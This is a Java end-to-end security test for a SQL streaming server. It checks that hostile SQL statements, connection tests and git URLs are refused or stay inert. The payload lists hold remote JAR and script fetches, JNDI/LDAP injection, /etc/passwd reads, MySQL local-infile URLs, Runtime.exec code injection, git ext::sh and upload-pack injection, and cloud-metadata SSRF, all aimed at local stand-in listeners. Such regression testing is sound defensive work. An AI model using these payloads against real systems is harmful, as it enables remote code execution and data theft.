package io.millrace.dist.e2e;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.millrace.api.Json;
import io.millrace.api.access.GranteeKind;
import io.millrace.api.access.GranteeView;
import io.millrace.api.client.ApiException;
import io.millrace.api.client.MillraceClient;
import io.millrace.api.connection.NewConnection;
import io.millrace.api.problem.Problem;
import io.millrace.api.workspace.WorkspaceRole;
import io.millrace.cli.console.ServerToken;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Properties;

/**
 * Hostile inputs on all ways into the stack, by somebody who may make tables and functions in two databases and by the
 * user of the stack: no process of it goes where they lead, starts a program or writes a file outside its home, and no
 * answer has the secret of a connection.
 */
@ExtendWith(SharedStack.class)
class TrapsE2E {
    private static final String JNDI = "com.sun.security.auth.module.JndiLoginModule required user.provider.url=";

    private final List<String> answers = new ArrayList<>();
    private final List<String> accepted = new ArrayList<>();
    private final Canary canary = new Canary();
    private final Properties settings = new Properties();
    private final Millrace millrace;
    private final MillraceClient server;
    private final String token;
    private final URI root;
    private final Session admin;

    @TempDir
    private Path folder;

    TrapsE2E(Millrace millrace) throws Exception {
        this.millrace = millrace;
        this.token = ServerToken.ofStack(millrace.home()).orElseThrow();
        this.root = URI.create(millrace.run("status", "--output", "json")
                        .json()
                        .path("ui")
                        .asText())
                .resolve("/");
        this.server = MillraceClient.at(root);
        this.admin = new Session(server.withToken(() -> token));
        try (var reader = Files.newBufferedReader(millrace.home().resolve("conf/server/application.properties"))) {
            settings.load(reader);
        }
    }

    @Test
    void nothingOfTheStackGoesWhereAnInputLeads() throws Exception {
        Session mallory = world();
        try (Traps traps = new Traps(millrace, folder)) {
            Leads leads = new Leads(
                    traps.listen("ldap"),
                    traps.listen("http"),
                    traps.listen("mysql"),
                    traps.listen("postgres"),
                    mark());
            for (String statement : Statements.FOR_NOBODY) {
                refused(admin, leads.in(statement));
                refused(mallory, leads.in(statement));
            }
            for (String statement : Statements.INLINE) {
                refused(mallory, leads.in(statement));
            }
            for (String statement : Statements.INERT) {
                answers.add(String.valueOf(admin.tries(leads.in(statement))));
            }
            requests(leads);
            nothingHappened(traps, leads);
        }
        assertThat(Activities.of(millrace, "--by", "mallet")).anyMatch(done -> done.contains("ACCESS_DENIED"));
        assertThat(admin.ok("SELECT 1 AS i").items()).hasSize(1);
        admin.ok("DROP TABLE kafka.traps.ok");
        server.withToken(() -> token).connections().delete("traps", notice -> {});
    }

    private void nothingHappened(Traps traps, Leads leads) throws IOException {
        assertThat(accepted).isEmpty();
        assertThat(traps.visits()).as("servers to which inputs led").isEmpty();
        assertThat(traps.started())
                .as("processes: tests of connections, and JGit's question how files are made")
                .isNotEmpty()
                .allMatch(command -> command.endsWith(" io.millrace.server.connection.probe.ProbeMain")
                        || command.equals("sh -c umask"));
        assertThat(traps.written())
                .as("files")
                .isNotEmpty()
                .allMatch(file -> file.startsWith(millrace.home().toString()));
        assertThat(Path.of(leads.mark())).doesNotExist();
        assertThat(answers).noneMatch(canary::isIn);
    }

    private Session world() {
        String kafka = settings.getProperty("millrace.catalog.kafka.bootstrap-servers");
        server.withToken(() -> token)
                .connections()
                .create(
                        new NewConnection(
                                "traps",
                                "kafka",
                                Map.of(
                                        "bootstrapServers", List.of(kafka),
                                        "securityProtocol", "SASL_PLAINTEXT",
                                        "saslMechanism", "PLAIN",
                                        "username", "app"),
                                Map.of("password", canary.text),
                                null),
                        false);
        admin.ok("CREATE DATABASE IF NOT EXISTS warehouse.traps");
        admin.ok("CREATE TABLE kafka.traps.ok (s STRING) WITH ('topic' = 'traps', 'format' = 'raw')");
        admin.ok("CREATE TABLE warehouse.traps.ok (s STRING) WITH ('format' = 'csv')");
        Session mallory = admin.withUser(server, "mallet");
        admin.client.workspaces().put("default", new GranteeView(GranteeKind.USER, "mallet"), WorkspaceRole.EDITOR);
        for (String database : List.of("kafka.traps", "warehouse.traps")) {
            admin.ok("GRANT READ, WRITE, CREATE ON DATABASE " + database + " TO mallet");
        }
        return mallory;
    }

    private String mark() {
        return folder.resolve("mark").toString();
    }

    /** What is defined but never works counts as refused: {@code definition ;; use}. */
    private void refused(Session session, String input) {
        boolean refused = false;
        for (String statement : input.split(" ;; ")) {
            Problem problem = problem(session, statement);
            refused |= problem != null;
            answers.add(String.valueOf(problem));
        }
        if (!refused) {
            accepted.add(input);
        }
    }

    private static @Nullable Problem problem(Session session, String statement) {
        try {
            return session.tries(statement);
        } catch (ApiException e) {
            return e.problem();
        }
    }

    private void requests(Leads leads) throws Exception {
        for (Map.Entry<String, String> request : Statements.REQUESTS) {
            String[] call = request.getKey().split(" ");
            HttpResponse<String> answer = send(call[0], call[1], leads.in(request.getValue()));
            boolean refused = answer.statusCode() / 100 == 4
                    && !Json.lenient()
                            .readTree(answer.body())
                            .path("code")
                            .asText()
                            .isEmpty();
            if (!refused) {
                accepted.add(request + ": " + answer.statusCode() + " " + answer.body());
            }
            answers.add(answer.body());
        }
        HttpResponse<String> allowed = send("POST", "/connections/traps/tests", "");
        assertThat(allowed.statusCode()).isEqualTo(200);
        answers.add(allowed.body());
    }

    private HttpResponse<String> send(String method, String path, String body) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(root.resolve("/api/v1" + path))
                .header("Authorization", "Bearer " + token)
                .header("Content-Type", "application/json")
                .method(method, HttpRequest.BodyPublishers.ofByteArray(body.getBytes(UTF_8)))
                .build();
        return HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }

    /** Where hostile inputs lead: ports of listeners, and a file that a program would make. */
    private record Leads(int ldap, int http, int mysql, int postgres, String mark) {
        String in(String input) {
            return input.replace("$LDAP", "127.0.0.1:" + ldap)
                    .replace("$HTTP", "127.0.0.1:" + http)
                    .replace("$MYSQL", "127.0.0.1:" + mysql)
                    .replace("$POSTGRES", "127.0.0.1:" + postgres)
                    .replace("$MARK", mark)
                    .replace("$JNDI", JNDI);
        }
    }

    /** The inputs. */
    private static final class Statements {
        /** Refused whoever types them. */
        static final List<String> FOR_NOBODY = List.of(
                "ADD JAR 'http://$HTTP/x.jar'",
                "ADD JAR 'file:///etc/passwd'",
                "CREATE FUNCTION warehouse.traps.f AS 'a.B' USING JAR 'http://$HTTP/x.jar'",
                "CREATE TEMPORARY SYSTEM FUNCTION f AS 'a.B' USING JAR 'http://$HTTP/x.jar'",
                "CREATE FUNCTION warehouse.traps.f AS 'java.lang.ProcessBuilder'",
                "CREATE TEMPORARY FUNCTION f AS 'f' LANGUAGE PYTHON",
                "CREATE CATALOG c WITH ('type' = 'jdbc', 'base-url' = 'jdbc:postgresql://$POSTGRES', 'username' = 'x',"
                        + " 'password' = 'x', 'default-database' = 'x')",
                "CREATE CATALOG c WITH ('type' = 'iceberg', 'catalog-type' = 'rest', 'uri' = 'http://$HTTP/')",
                "LOAD MODULE hive WITH ('hive-version' = '3.1.2')",
                "CALL warehouse.`system`.expire('ldap://$LDAP/x')",
                "EXECUTE PLAN 'http://$HTTP/plan.json'",
                "COMPILE PLAN 'file://$MARK' FOR INSERT INTO warehouse.traps.ok SELECT 'x'",
                "SET 'pipeline.jars' = 'http://$HTTP/x.jar'",
                "SET 'pipeline.classpaths' = 'http://$HTTP/'",
                "SET 'python.executable' = '/usr/bin/touch $MARK'",
                "SET 'env.java.opts.all' = '-XX:OnError=touch $MARK'",
                "SET 'rest.address' = '127.0.0.1'",
                "SET 'execution.job-status-changed-listeners' = 'a.B'",
                "SET 'execution.checkpointing.dir' = 'http://$HTTP/'",
                "SELECT * FROM kafka.traps.ok /*+ OPTIONS('properties.bootstrap.servers' = '$HTTP') */",
                "SELECT * FROM kafka.traps.ok /*+ OPTIONS('properties.sasl.jaas.config' = '$JNDI\"ldap://$LDAP/x\";') */",
                "SELECT * FROM kafka.traps.ok /*+ OPTIONS('properties.config.providers' = 'file',"
                        + " 'properties.config.providers.file.class' ="
                        + " 'org.apache.kafka.common.config.provider.FileConfigProvider',"
                        + " 'properties.client.id' = '${file:/etc/passwd:root}') */",
                "SELECT * FROM kafka.traps.ok /*+ OPTIONS('properties.metric.reporters' = 'a.B') */",
                "SELECT * FROM kafka.traps.ok /*+ OPTIONS('properties.sasl.oauthbearer.token.endpoint.url' ="
                        + " 'http://$HTTP/') */",
                "INSERT INTO kafka.traps.ok /*+ OPTIONS('properties.interceptor.classes' = 'a.B') */ VALUES ('x')",
                "SELECT * FROM warehouse.traps.ok /*+ OPTIONS('path' = 'file:///etc/passwd') */",
                "CREATE TABLE warehouse.traps.x (s STRING) WITH ('format' = 'raw', 'path' = 'file:///etc/passwd')",
                "CREATE TABLE warehouse.traps.x (s STRING) WITH ('connector' = 'jdbc',"
                        + " 'url' = 'jdbc:mysql://$MYSQL/x?allowLoadLocalInfile=true', 'table-name' = 'x')",
                "CREATE TABLE kafka.traps.x WITH ('properties.bootstrap.servers' = '$HTTP') LIKE kafka.traps.ok",
                "CREATE TABLE kafka.traps.x (s STRING) WITH ('topic' = 'x', 'format' = 'raw',"
                        + " 'properties.sasl.jaas.config' = '$JNDI\"ldap://$LDAP/x\";')",
                "CREATE TABLE kafka.traps.x (s STRING) WITH ('topic' = 'x', 'format' = 'protobuf',"
                        + " 'protobuf.message-class-name' = 'javax.script.ScriptEngineManager')",
                // With a connector of one's own, too.
                "CREATE TEMPORARY TABLE x (s STRING) WITH ('connector' = 'filesystem', 'format' = 'raw',"
                        + " 'path' = 'file:///etc/passwd')",
                "CREATE TEMPORARY TABLE kafka.traps.ok (s STRING) WITH ('connector' = 'print')");

        /** Refused unless one was granted INLINE_CONNECTOR, which lets connect anywhere. */
        static final List<String> INLINE = List.of(
                "CREATE TEMPORARY TABLE x (s STRING) WITH ('connector' = 'kafka', 'topic' = 'x', 'format' = 'raw',"
                        + " 'properties.bootstrap.servers' = '$HTTP')",
                "CREATE TEMPORARY TABLE x (s STRING) WITH ('connector' = 'jdbc', 'table-name' = 'x',"
                        + " 'url' = 'jdbc:mysql://$MYSQL/x?allowLoadLocalInfile=true&autoDeserialize=true')",
                "CREATE TEMPORARY TABLE x (s STRING) WITH ('connector' = 'jdbc', 'table-name' = 'x',"
                        + " 'url' = 'jdbc:postgresql://$POSTGRES/x?socketFactory=a.B&socketFactoryArg=http://$HTTP/')",
                "CREATE TEMPORARY TABLE x (s STRING) WITH ('connector' = 'jdbc', 'table-name' = 'x',"
                        + " 'url' = 'jdbc:h2:mem:t;INIT=RUNSCRIPT FROM ''http://$HTTP/x.sql''')",
                "CREATE TEMPORARY TABLE x (s STRING) WITH ('connector' = 'filesystem', 'format' = 'raw',"
                        + " 'path' = 'http://$HTTP/')",
                "CREATE TEMPORARY TABLE x (s STRING) WITH ('connector' = 'kafka', 'topic' = 'x',"
                        + " 'format' = 'avro-confluent', 'avro-confluent.url' = 'http://$HTTP/')",
                "CREATE TEMPORARY FUNCTION f AS 'javax.naming.InitialContext'",
                "CREATE TEMPORARY TABLE x (s STRING) WITH ('connector' = 'a.B', 'url' = 'http://$HTTP/')",
                "CREATE TEMPORARY TABLE x WITH ('topic' = 'y') LIKE kafka.traps.ok (OVERWRITING OPTIONS)"
                        + " ;; SELECT * FROM x");

        /** Classes that are no functions, and text that generated code must keep text (CVE-2026-35194). */
        static final List<String> INERT = List.of(
                "CREATE TEMPORARY FUNCTION looked AS 'javax.naming.InitialContext'",
                "SELECT looked('ldap://$LDAP/x')",
                "SELECT 'x' LIKE 'y' ESCAPE '\"+Runtime.getRuntime().exec(\"touch $MARK\")+\"'",
                "SELECT 'x' LIKE CAST(s AS STRING) ESCAPE '\\' FROM (VALUES ('\");new ProcessBuilder(\"touch\",\"$MARK\")"
                        + ".start();//')) AS t (s)",
                "SELECT 'x' SIMILAR TO '\");Runtime.getRuntime().exec(\"touch $MARK\");//'",
                "SELECT JSON_VALUE('{}', '$.a\");Runtime.getRuntime().exec(\"touch $MARK\");//')",
                "SELECT JSON_OBJECT(KEY '\");Runtime.getRuntime().exec(\"touch $MARK\");//' VALUE 1)",
                "SELECT JSON_QUERY('{}', '$[\"\\\"+Runtime.getRuntime().exec(\\\"touch $MARK\\\")+\\\"\"]')",
                "SELECT DATE_FORMAT(TIMESTAMP '2026-01-01 00:00:00',"
                        + " '\"+Runtime.getRuntime().exec(\"touch $MARK\")+\"')",
                "SELECT 1 AS `\");Runtime.getRuntime().exec(\"touch $MARK\");//`");

        /** Refused as requests. */
        static final List<Map.Entry<String, String>> REQUESTS = List.of(
                tested("mysql", "\"host\":\"127.0.0.1,(allowLoadLocalInfile=yes)\",\"username\":\"x\""),
                tested("mysql", "\"host\":\"$MYSQL/x?allowLoadLocalInfile=true\",\"username\":\"x\""),
                tested("mysql", "\"host\":\"127.0.0.1\",\"username\":\"x\",\"options\":{\"autoDeserialize\":\"true\"}"),
                tested("postgres", "\"host\":\"127.1\",\"database\":\"x\",\"username\":\"x\""),
                tested(
                        "postgres",
                        "\"host\":\"127.0.0.1\",\"database\":\"x?socketFactory=a.B\",\"username\":\"x\",\"url\":\"x\""),
                tested("kafka", "\"bootstrapServers\":[\"169.254.169.254:80\"],\"securityProtocol\":\"PLAINTEXT\""),
                tested(
                        "kafka",
                        "\"bootstrapServers\":[\"k.example:9092\"],\"securityProtocol\":\"SASL_SSL\","
                                + "\"sasl.jaas.config\":\"$JNDI'ldap://$LDAP/x';\""),
                tested("iceberg", "\"catalogType\":\"rest\",\"uri\":\"http://169.254.169.254/latest\""),
                tested("iceberg", "\"catalogType\":\"rest\",\"uri\":\"https://c.example/\",\"io-impl\":\"a.B\""),
                tested("h2", "\"url\":\"jdbc:h2:mem:t;INIT=RUNSCRIPT FROM 'http://$HTTP/x.sql'\""),
                git("ext::sh -c touch% $MARK"),
                git("http://169.254.169.254/x.git"),
                git("file:///etc"),
                git("--upload-pack=touch $MARK"),
                Map.entry(
                        "PUT /workspaces/default/jobs/traps",
                        "{\"script\":\"ADD JAR 'http://$HTTP/x.jar'; INSERT INTO warehouse.traps.ok VALUES ('x')\"}"),
                Map.entry(
                        "POST /workspaces/default/jobs/traps/snapshot-imports",
                        "{\"path\":\"http://$HTTP/savepoint\"}"),
                Map.entry("POST /catalogs/kafka/databases/traps/tables", """
                        {"definition":{"name":"x","columns":[],"options":{"properties.bootstrap.servers":"$HTTP"}}}"""));

        private static Map.Entry<String, String> tested(String kind, String fields) {
            return Map.entry(
                    "POST /connection-tests",
                    "{\"kind\":\"" + kind + "\",\"fields\":{" + fields + "},\"secrets\":{\"password\":\"x\"}}");
        }

        private static Map.Entry<String, String> git(String url) {
            return Map.entry("PUT /workspaces/default/git", "{\"url\":\"" + url + "\",\"branch\":\"main\"}");
        }
    }
}
